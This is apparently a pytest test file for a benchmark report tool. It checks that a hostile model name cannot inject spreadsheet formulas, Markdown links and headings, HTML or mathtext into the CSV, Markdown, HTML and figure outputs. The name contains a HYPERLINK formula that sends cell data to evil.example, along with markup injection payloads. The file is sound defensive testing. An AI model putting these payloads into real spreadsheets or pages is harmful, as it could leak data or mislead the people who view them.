"""`vlm4d report` against hostile input (issue 23, items 6, 7, 8, 9 and 17).

Names that a response file or an lmms-eval run controls (the model name) reach the CSV, the
Markdown, the HTML page and the figures: each must stay data there (no spreadsheet formula, no
Markdown link/image/heading, no broken table, no matplotlib mathtext). Every field of a score
document the report reads is checked (wrong type, negative, NaN, empty container: exit 2 and
one line naming the file, the run and the field, never a traceback); a FIFO as a score file
fails at once. The documents are made by the project's own code (`pipeline.score_document`)
from hand-made questions.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from vlm4d_tasks.data.schema import Record
from vlm4d_tasks.metric.pipeline import run_entry, score_document, score_json
from vlm4d_tasks.metric.scoring import Verdict, join

RESAMPLES = 50
# Markdown and mathtext specials, a table pipe, newlines, HTML, and a spreadsheet formula.
HOSTILE = (
    '=HYPERLINK("http://evil.example/x"&A1,"click") $\\frac{a}{b}$ $\\nosuchcommand{x}$ '
    "$x^^2$ `tick` "
    "[link](http://evil.example/a) ![img](http://evil.example/i.png) <b>bold</b> "
    "| pipe | *star* _under_ #hash !bang\n# Heading injected\r\n- item\n> quote"
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

OPTIONS = ["left", "right", "not moving", "no car there"]


def _records(subset: str, count: int) -> list[Record]:
    out = []
    for i in range(1, count + 1):
        out.append(Record(
            uid=f"{subset}/q{i}", question_id=f"q{i}", subset=subset,
            source="davis" if subset == "real" else "synthetic",
            perspective=("egocentric" if i % 2 else "exocentric") if subset == "real" else None,
            category="translational" if i % 4 else "false_positive",
            question="Which way does the car move?", options=list(OPTIONS),
            answer="D" if i % 4 == 0 else "A",
            answer_text=OPTIONS[3] if i % 4 == 0 else OPTIONS[0],
            video=f"videos/{subset}_{i % 3}.mp4",
        ))  # fmt: skip
    return out


def score_doc(names: tuple[str, ...] = (HOSTILE, "plain-model"), count: int = 6) -> dict:
    """Each name answers `count` real and `count` synthetic questions in two prompt settings
    (so that the figures comparing chain of thought and direct output are drawn too)."""
    runs, models = [], {}
    for skill, name in enumerate(names):
        for variant in ("cot", "direct-output"):
            model = f"{name} ({variant})"
            for subset in ("real", "synthetic"):
                records = _records(subset, count)
                letters = [r.answer if (i + skill) % 3 else "B" for i, r in enumerate(records)]
                verdicts = [Verdict.chosen(r.uid, x, "given") for r, x in zip(records, letters)]
                items = join(verdicts, records)
                runs.append(run_entry(
                    items, name=name, model=model, variant=variant, subset=subset,
                    file=f"{subset}_mc_{variant}/{name}.json", grading={"mode": "rule"},
                    resamples=RESAMPLES, seed=0,
                ))  # fmt: skip
                models.setdefault(model, []).extend(items)
    return score_document(runs, models, judge={"mode": "rule", "models": []},
                          resamples=RESAMPLES, seed=0)  # fmt: skip


def vlm4d(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "vlm4d_tasks.cli", *args], capture_output=True, text=True,
        timeout=timeout, env={**os.environ, "PYTHONHASHSEED": "0"},
    )  # fmt: skip


def assert_clean_failure(result: subprocess.CompletedProcess, *needles: str) -> str:
    """Exit 2, no traceback, and a last stderr line that names every needle."""
    assert result.returncode == 2, (result.returncode, result.stderr[-2000:])
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    last = result.stderr.strip().splitlines()[-1]
    for needle in needles:
        assert needle in last, (needle, last)
    return last


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`vlm4d report --out` of a document whose first model has the hostile name."""
    root = tmp_path_factory.mktemp("hostile")
    path = root / "scores.json"
    path.write_text(score_json(score_doc()), encoding="utf-8")
    result = vlm4d("report", str(path), "--out", str(root / "out"), "--no-progress")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    return root / "out"


# --------------------------------------------------------------------------------------------
# 6. CSV formula injection


def test_no_csv_text_cell_starts_a_formula_and_numbers_stay_numbers(hostile_report: Path):
    rows = list(csv.reader(io.StringIO((hostile_report / "leaderboard.csv").read_text("utf-8"))))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)  # the name, neutralised
    for cell in cells:  # a cell may start with "-" only as a number
        if cell.startswith(FORMULA_STARTS):
            assert float(cell) < 0, cell
    # numbers are not text: a negative chance-corrected accuracy stays a plain number
    column = header.index("overall_chance_corrected")
    assert any(row[column].startswith("-") and float(row[column]) < 0 for row in body)


def test_csv_keeps_negative_numbers_as_numbers():
    from vlm4d_tasks.metric.leaderboard import csv_cell

    assert csv_cell(-3.2) == -3.2 and csv_cell(0) == 0
    assert csv_cell("-3.2") == "'-3.2"  # a text cell is text, whatever it looks like
    assert csv_cell("=1+1") == "'=1+1"
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}x") == f"'{start}x"
    assert csv_cell("plain") == "plain"
    assert csv_cell("") == ""


# --------------------------------------------------------------------------------------------
# 7. Names that break renderers: Markdown, HTML, figures


def _flat(name: str) -> str:
    """The name as the report shows it: on one line."""
    return " ".join(name.replace("\r", " ").replace("\n", " ").split(" "))


def _table_lines(markdown: str) -> list[list[str]]:
    """The report's tables as blocks of source lines (a table: consecutive lines from "|")."""
    tables, block = [], []
    for line in markdown.splitlines():
        if line.startswith("|"):
            block.append(line)
        elif block:
            tables.append(block)
            block = []
    return tables + ([block] if block else [])


def _cells(line: str) -> int:
    """How many cells GFM (and markdown-it) splits a row into: a `|` preceded by a backslash
    does not split."""
    pipes = sum(1 for i, ch in enumerate(line) if ch == "|" and (i == 0 or line[i - 1] != "\\"))
    return pipes - 1


def assert_markdown_holds(markdown: str, allowed_images: set[str]) -> None:
    """No link, image, heading or HTML comes from a name; every table row has as many cells
    as its header, and markdown-it sees exactly the rows of the source; the name is shown."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = md.parse(markdown)
    inline = [child for token in tokens for child in token.children or []]
    for child in inline:
        if child.type == "link_open":
            assert str(child.attrGet("href")).startswith("#"), child.attrGet("href")
        if child.type == "image":
            assert child.attrGet("src") in allowed_images, child.attrGet("src")
    kinds = {t.type for t in tokens} | {c.type for c in inline}
    assert not kinds & {"html_inline", "html_block", "blockquote_open", "hr", "s_open"}, kinds
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert not any("Heading injected" in h or "evil" in h for h in headings), headings
    tables = _table_lines(markdown)
    assert tables
    for block in tables:
        widths = {_cells(line) for line in block}
        assert len(widths) == 1, block
    rows = sum(1 for t in tokens if t.type == "tr_open")
    assert rows == sum(len(block) - 1 for block in tables)  # no row split, none swallowed
    # Every place the name is written shows it whole, in one code span or text (no markup cut
    # it): as many as the source mentions it (its words "Heading injected" need no escape).
    shown = [c.content for c in inline if c.type in ("code_inline", "text")]
    whole = sum(text.count(_flat(HOSTILE)) for text in shown)
    assert whole == markdown.count("Heading injected") > 0


def test_report_md_keeps_a_hostile_name_as_text(hostile_report: Path):
    markdown = (hostile_report / "report.md").read_text("utf-8")
    pngs = {p.name for p in hostile_report.glob("*.png")}
    assert {"accuracy_by_category.png", "cot_vs_direct.png"} <= pngs
    assert_markdown_holds(markdown, pngs)


def test_report_html_keeps_a_hostile_name_as_text(hostile_report: Path):
    from html.parser import HTMLParser

    class Page(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.tags: list[tuple[str, dict]] = []
            self.stack: list[str] = []
            self.headings: list[str] = []
            self.rows: list[list[int]] = []  # per table: the cells of each row
            self.text: list[str] = []

        def handle_starttag(self, tag: str, attrs: list) -> None:
            self.tags.append((tag, dict(attrs)))
            self.stack.append(tag)
            if tag == "table":
                self.rows.append([])
            elif tag == "tr":
                self.rows[-1].append(0)
            elif tag in ("td", "th"):
                self.rows[-1][-1] += 1
            elif tag in ("h1", "h2", "h3", "h4", "h5", "h6"):
                self.headings.append("")

        def handle_endtag(self, tag: str) -> None:
            if tag in self.stack:
                while self.stack.pop() != tag:
                    pass

        def handle_data(self, data: str) -> None:
            self.text.append(data)
            if any(t in ("h1", "h2", "h3", "h4", "h5", "h6") for t in self.stack):
                self.headings[-1] += data

    page = Page()
    page.feed((hostile_report / "report.html").read_text("utf-8"))
    for tag, attrs in page.tags:
        assert tag not in ("b", "script", "iframe", "blockquote", "del", "s"), tag
        if tag == "a":
            assert attrs.get("href", "").startswith("#"), attrs
        if tag == "img":
            assert attrs.get("src", "").startswith("data:image/png;base64,"), attrs["src"][:80]
    assert not any("Heading injected" in h for h in page.headings), page.headings
    for table in page.rows:
        assert len(set(table)) == 1, table
    # the name whole (no markup took a piece of it) wherever report.md writes it
    mentions = (hostile_report / "report.md").read_text("utf-8").count("Heading injected")
    assert "".join(page.text).count(_flat(HOSTILE)) == mentions > 0


def test_single_score_markdown_and_plot_keep_a_hostile_name(tmp_path: Path):
    """`vlm4d report SCORE --markdown --plot`: the table of one score and its PNG (the same
    Markdown `vlm4d score` prints)."""
    from PIL import Image

    path = tmp_path / "scores.json"
    path.write_text(score_json(score_doc()), encoding="utf-8")
    result = vlm4d("report", str(path), "--markdown", str(tmp_path / "t.md"), "--plot",
                   str(tmp_path / "t.png"), "--no-progress")  # fmt: skip
    assert result.returncode == 0, result.stderr[-3000:]
    assert_markdown_holds((tmp_path / "t.md").read_text("utf-8"), set())
    with Image.open(tmp_path / "t.png") as image:
        image.verify()


def test_figures_draw_dollar_signs_as_text(tmp_path: Path):
    """Mathtext is off in every figure: a name that is not valid mathtext is drawn, and a
    name that is (`$x^2$`) is drawn as its characters, not as math."""
    from vlm4d_tasks.metric.figures import write_figures

    document = score_doc(names=("$\\nosuchcommand{x}$ $a_b$", "plain"))
    images = write_figures([document], tmp_path, progress=False)
    assert len(list(images)) >= 3 and all(Path(p).stat().st_size > 1000 for p in images)
